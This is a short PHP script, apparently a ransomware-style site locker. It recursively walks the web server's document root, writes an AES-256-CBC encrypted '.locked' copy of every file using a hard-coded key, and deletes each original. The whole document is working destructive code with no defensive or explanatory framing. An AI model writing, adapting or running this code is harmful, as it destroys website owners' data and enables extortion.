<?php
// every file of the site replaced by an encrypted copy, the original deleted
$key = hash('sha256', 'operator-key-42', true);
function lock_tree($dir, $key) {
    foreach (scandir($dir) as $e) {
        if ($e == '.' || $e == '..' || $e == basename(__FILE__)) continue;
        if (is_dir("$dir/$e")) { lock_tree("$dir/$e", $key); continue; }
        $iv = random_bytes(16);
        file_put_contents("$dir/$e.locked", $iv . openssl_encrypt(file_get_contents("$dir/$e"), 'aes-256-cbc', $key, OPENSSL_RAW_DATA, $iv));
        unlink("$dir/$e");
    }
}
lock_tree($_SERVER['DOCUMENT_ROOT'], $key);
